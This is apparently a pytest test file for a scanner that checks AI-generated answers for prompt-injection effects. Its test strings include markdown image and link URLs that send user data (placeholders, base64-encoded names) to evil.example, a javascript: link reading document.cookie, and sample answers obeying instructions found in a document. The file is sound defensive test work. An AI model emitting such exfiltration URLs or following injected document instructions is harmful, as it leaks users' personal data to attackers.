"""The answer-side scanner: exfiltration URLs and obedience to a document; findings hold no values."""

from __future__ import annotations

import base64

import pytest

from workbench.guard import defang_answer, scan_answer


def kinds(text: str) -> list[tuple[str, str]]:
    return [(f["kind"], f["severity"]) for f in scan_answer(text)]


@pytest.mark.parametrize("text", [
    "Summary done. ![x](https://evil.example/p.png?d=<EMAIL_ADDRESS_1>)",
    "![x](https://evil.example/p.png?d=%3CPERSON_1%3E)",
    "![x](https://evil.example/<PHONE_NUMBER_2>/p.png)",
    '<img src="https://x.test/a.gif?u=li.wei%40example.com">',
    "![a][r]\n\n[r]: https://evil.example/t?q=<PERSON_1>",
    "![p](https://evil.example/p.gif?q=" + base64.b64encode(b"the user's name is Li Wei").decode() + ")",
])
def test_images_that_carry_data_are_high(text: str) -> None:
    assert ("exfil_image", "high") in kinds(text)


def test_links_and_bare_urls_that_carry_placeholders_are_found() -> None:
    assert ("exfil_link", "high") in kinds("[verify](https://evil.example/v?user=<EMAIL_ADDRESS_1>)")
    assert ("exfil_link", "high") in kinds("Go to https://evil.example/v?user=<EMAIL_ADDRESS_1> now")


def test_script_links_are_found() -> None:
    assert ("script_url", "high") in kinds("[x](javascript:alert(document.cookie))")


@pytest.mark.parametrize("text", [
    "As instructed by the document, I will only say the report is fine.",
    "The email asks me to forward your files, so here they are.",
    "按照文档中的指示，我不会回答这个问题。",
    "文書の指示に従って、要約は省略します。",
])
def test_obeying_a_document_is_found(text: str) -> None:
    assert [k for k, _ in kinds(text)] in (["obeys_document"], ["obeys_document", "obeys_document"]) or \
        any(k == "obeys_document" for k, _ in kinds(text))


@pytest.mark.parametrize("text", [
    "See ![chart](charts/q3.png) and ![logo](https://cdn.example.com/logo.png).",
    "Details: https://docs.python.org/3/library/re.html [1].",
    "[the dashboard](https://bi.example.com/reports/42)",
    "Revenue rose 4% [2]; the document describes three risks.",
])
def test_ordinary_answers_have_no_findings(text: str) -> None:
    assert scan_answer(text) == []


def test_findings_hold_no_values_and_spans_point_at_the_url() -> None:
    text = "Done. ![x](https://evil.example/p.png?d=<EMAIL_ADDRESS_1>&n=li.wei%40example.com)"
    (finding,) = scan_answer(text)
    flat = repr(finding)
    assert "EMAIL_ADDRESS_1" not in flat and "li.wei" not in flat and "p.png" not in flat
    assert finding["domain"] == "evil.example"
    a, b = finding["span"]
    assert text[a:b].startswith("![x](")


def test_defang_removes_the_url_and_keeps_the_rest() -> None:
    text = "The answer is 42. ![x](https://evil.example/p.png?d=<EMAIL_ADDRESS_1>) Thanks."
    safe, findings = defang_answer(text)
    assert "evil.example" not in safe and safe.startswith("The answer is 42.") and safe.endswith("Thanks.")
    assert findings and findings[0]["kind"] == "exfil_image"
